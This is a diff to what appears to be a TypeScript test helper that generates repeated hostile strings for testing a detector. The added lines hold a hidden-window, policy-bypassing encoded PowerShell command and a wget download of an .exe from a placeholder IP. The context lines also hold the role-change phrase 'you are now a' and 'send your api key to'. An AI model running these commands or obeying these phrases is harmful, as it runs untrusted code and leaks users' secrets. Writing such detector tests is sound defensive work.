@@ -36,6 +36,11 @@ export function hostileTexts(keywords: readonly string[]): { name: string; text:
     { name: 'tags', text: fill('\u{e0041}') },
     { name: 'assignments', text: fill('api_key = "') },
     { name: 'curl lines', text: fill('curl -u a \\\n -H ') },
+    {
+      name: 'hidden windows',
+      text: fill('powershell -ep bypass -w hidden -enc SQBFAFgAIAAkAHgAOwA= '),
+    },
+    { name: 'fetched programs', text: fill('wget http://203.0.113.9/a.exe ') },
     { name: 'quotation marks', text: fill('"a" ') },
     { name: 'new roles', text: fill('you are now a ') },
     { name: 'demands', text: fill('send your api key to ') },
